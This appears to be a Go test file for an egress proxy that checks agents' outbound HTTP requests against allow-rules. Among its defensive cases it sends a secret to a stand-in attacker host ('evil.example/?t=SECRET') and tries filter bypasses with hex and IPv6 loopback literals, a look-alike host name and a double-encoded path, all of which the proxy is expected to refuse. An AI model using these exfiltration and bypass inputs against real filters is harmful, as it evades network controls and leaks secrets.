// Copyright The Bawn Authors.
// SPDX-License-Identifier: Apache-2.0

package egress_test

import (
	"bytes"
	"fmt"
	"io"
	"net/http"
	"strings"
	"testing"

	"bawn/internal/codes"
	"bawn/internal/netplan"
	"bawn/internal/verdict"
)

const basic = `
version: 1
profiles:
  p:
    rules:
      - id: api
        host: api.example.com
        ports: [443, 80]
        methods: [GET, POST, PUT, HEAD, DELETE]
        paths: ["/v1/**"]
agents:
  dev: {profile: p}
`

// echo answers with what came.
var echo = http.HandlerFunc(func(w http.ResponseWriter, q *http.Request) {
	body, _ := io.ReadAll(q.Body)
	w.Header().Set("X-Got", fmt.Sprintf("%s %s %s %d", q.Method, q.Host, q.RequestURI, len(body)))
	w.Header().Set("Alt-Svc", `h3=":443"`)
	w.Header().Set("Bawn-Code", "forged")
	w.Write(body)
})

func TestGetThroughTunnel(t *testing.T) {
	r := newRig(t, basic)
	r.upstream(apiHost, apiAddr, 443, echo)
	client := r.client(r.listen(netplan.Explicit))
	for i := range 3 {
		res, err := client.Get("https://api.example.com/v1/%7Ethings?x=%zz")
		must(t, err)
		io.Copy(io.Discard, res.Body)
		res.Body.Close()
		if res.StatusCode != 200 || res.Header.Get("X-Got") != "GET api.example.com /v1/~things?x=%zz 0" {
			t.Fatalf("got %s, %q", res.Status, res.Header.Get("X-Got"))
		}
		if res.Header.Get("Alt-Svc") != "" || res.Header.Get("Bawn-Code") != "" {
			t.Errorf("fields got through that must not: %v", res.Header)
		}
		o := r.journal.lastOutcome(t, i+1)
		if o.Status != 200 || o.Reused != (i > 0) || o.Upstream != apiAddr+":443" || o.BytesUp == 0 || o.BytesDown == 0 || o.Code != "" {
			t.Errorf("outcome %+v", o)
		}
	}
	d, _ := r.journal.all()
	if len(d) != 3 || d[0].Verdict != verdict.Allow || d[0].Rule != "api" || d[0].Host != apiHost || d[0].Path != "/v1/~things" ||
		d[0].Method != "GET" || d[0].Agent != "dev" || d[0].Slot != 7 || d[0].Revision != 1 || d[0].SNI != apiHost || d[0].Query == "" {
		t.Errorf("decisions %+v", d)
	}
	if r.net.dials() != 1 {
		t.Errorf("dialled %d times, want once", r.net.dials())
	}
}

func TestAbsoluteForm(t *testing.T) {
	r := newRig(t, basic)
	r.upstream(apiHost, apiAddr, 80, echo)
	client := r.client(r.listen(netplan.Explicit))
	res, err := client.Post("http://API.example.com/v1/a", "text/plain", strings.NewReader("hello"))
	must(t, err)
	body, _ := io.ReadAll(res.Body)
	if res.StatusCode != 200 || string(body) != "hello" || res.Header.Get("X-Got") != "POST api.example.com /v1/a 5" {
		t.Fatalf("got %s, %q, %q", res.Status, body, res.Header.Get("X-Got"))
	}
	res, err = client.Get("http://evil.example/?t=SECRET")
	must(t, err)
	wantDenial(t, res, 403, codes.HostNotAllowed)
	if r.net.lookups() != 1 {
		t.Errorf("asked for %v", r.net.looked)
	}
	if d := r.journal.lastDecision(t, 2); d.Host != "evil.example" || d.Verdict != verdict.Deny {
		t.Errorf("decision %+v", d)
	}
}

// TestI3JudgeBeforeDNS: nobody asks for a name that is not allowed.
func TestI3JudgeBeforeDNS(t *testing.T) {
	r := newRig(t, basic)
	r.upstream(apiHost, apiAddr, 443, echo)
	proxy := r.listen(netplan.Explicit)
	client := r.client(proxy)
	for url, code := range map[string]codes.Code{
		"https://evil.example/":                       codes.HostNotAllowed,
		"https://secret.api.example.com/":             codes.HostNotAllowed,
		"https://api.example.com:22/":                 codes.PortNotAllowed,
		"https://140.82.114.4/":                       codes.IPLiteralDenied,
		"https://[::1]/":                              codes.IPLiteralDenied,
		"https://0x7f000001/":                         codes.IPLiteralDenied,
		"https://nottrusted_api.example.com/":         codes.HostInvalid,
		"https://api.example.com.evil.example/v1/abc": codes.HostNotAllowed,
	} {
		req, err := http.NewRequest("GET", url, nil)
		must(t, err)
		_, err = client.Do(req)
		if err == nil || (!strings.Contains(err.Error(), "Forbidden") && !strings.Contains(err.Error(), "Bad Request")) {
			t.Errorf("%s: got %v, want a refusal of CONNECT", url, err)
		}
		d, _ := r.journal.all()
		if got := d[len(d)-1]; got.Code != code || got.Verdict != verdict.Deny || got.Method != "CONNECT" {
			t.Errorf("%s: got %+v, want %s", url, got, code)
		}
	}
	if r.net.lookups()+r.net.dials() != 0 {
		t.Errorf("asked for %v, dialled %v", r.net.looked, r.net.dialled)
	}
}

// TestDenialsKeepTheConnection: where framing is certain, the connection goes
// on after a refusal.
func TestDenialsKeepTheConnection(t *testing.T) {
	r := newRig(t, basic)
	r.upstream(apiHost, apiAddr, 443, echo)
	client := r.client(r.listen(netplan.Explicit))
	for i, c := range []struct {
		method, path, body string
		code               codes.Code
	}{
		{"GET", "/admin", "", codes.PathNotAllowed},
		{"PATCH", "/v1/a", "hello", codes.MethodNotAllowed},
		{"POST", "/v1/%2561dmin", "hello", codes.TargetInvalid},
		{"HEAD", "/admin", "", codes.PathNotAllowed},
		{"GET", "/v1/ok", "", ""},
	} {
		req, err := http.NewRequest(c.method, "https://api.example.com"+c.path, strings.NewReader(c.body))
		must(t, err)
		res, err := client.Do(req)
		must(t, err)
		switch {
		case c.code == "":
			if res.StatusCode != 200 {
				t.Errorf("%s %s: got %s", c.method, c.path, res.Status)
			}
		case c.method == "HEAD":
			if res.StatusCode != 403 || res.Header.Get("Bawn-Code") != string(c.code) {
				t.Errorf("HEAD: got %s, %q", res.Status, res.Header.Get("Bawn-Code"))
			}
		default:
			wantDenial(t, res, codes.StatusOf(c.code), c.code)
		}
		res.Body.Close()
		if d := r.journal.lastDecision(t, i+1); d.Code != c.code {
			t.Errorf("%s %s: on record as %q, want %q", c.method, c.path, d.Code, c.code)
		}
	}
	if r.net.dials() != 1 {
		t.Errorf("dialled %v", r.net.dialled)
	}
}

func TestBodies(t *testing.T) {
	r := newRig(t, basic)
	r.upstream(apiHost, apiAddr, 443, echo)
	client := r.client(r.listen(netplan.Explicit))
	for _, size := range []int{0, 1, 1000, 4096, 100_000, 3 << 20} {
		for _, chunked := range []bool{false, true} {
			data := bytes.Repeat([]byte("0123456789"), size/10+1)[:size]
			var body io.Reader = bytes.NewReader(data)
			if chunked {
				body = struct{ io.Reader }{body}
			}
			req, err := http.NewRequest("PUT", "https://api.example.com/v1/x", body)
			must(t, err)
			if size > 1<<20 {
				req.Header.Set("Expect", "100-continue")
			}
			res, err := client.Do(req)
			must(t, err)
			got, err := io.ReadAll(res.Body)
			must(t, err)
			res.Body.Close()
			if !bytes.Equal(got, data) {
				t.Errorf("size %d, chunked %v: got %d octets back", size, chunked, len(got))
			}
		}
	}
	d, _ := r.journal.all()
	o := r.journal.lastOutcome(t, len(d))
	if o.BytesUp < 3<<20 || o.BytesDown < 3<<20 {
		t.Errorf("counted %d up, %d down", o.BytesUp, o.BytesDown)
	}
	if r.net.dials() != 1 {
		t.Errorf("dialled %d times, want once", r.net.dials())
	}
}

// TestReadOnlyGuard: a rule with the guard passes what only reads.
func TestReadOnlyGuard(t *testing.T) {
	r := newRig(t, `
version: 1
profiles:
  p: {rules: [{host: api.example.com, guard: read-only}]}
agents:
  dev: {profile: p}
`)
	r.upstream(apiHost, apiAddr, 443, echo)
	client := r.client(r.listen(netplan.Explicit))
	for method, code := range map[string]codes.Code{"GET": "", "POST": codes.MethodNotAllowed, "OPTIONS": codes.BodyNotAllowed} {
		req, err := http.NewRequest(method, "https://api.example.com/x", nil)
		must(t, err)
		if code != "" {
			req.Body = io.NopCloser(strings.NewReader("x"))
			req.ContentLength = 1
		}
		res, err := client.Do(req)
		must(t, err)
		if code == "" {
			if res.StatusCode != 200 {
				t.Errorf("%s: %s", method, res.Status)
			}
			res.Body.Close()
			continue
		}
		wantDenial(t, res, 403, code)
	}
}

// TestSensitiveRulesMarkTheirRecords, whether the request is read or spliced.
func TestSensitiveRulesMarkTheirRecords(t *testing.T) {
	for _, sensitive := range []bool{false, true} {
		for _, inspect := range []string{"full", "sni"} {
			rule := fmt.Sprintf("version: 1\nprofiles: {p: {rules: [{host: api.example.com, inspect: %s, sensitive: %v}]}}\nagents: {dev: {profile: p}}\n", inspect, sensitive)
			r := newRig(t, rule)
			r.upstream(apiHost, apiAddr, 443, echo)
			client := r.client(r.listen(netplan.Explicit))
			if res, err := client.Get("https://api.example.com/v1/x"); err == nil {
				res.Body.Close() // a splice shows the server's own certificate, which this client may refuse
			}
			if d := r.journal.lastDecision(t, 1); d.Verdict != verdict.Allow || d.Sensitive != sensitive {
				t.Errorf("inspect %s, sensitive %v: decision %+v", inspect, sensitive, d)
			}
		}
	}
}
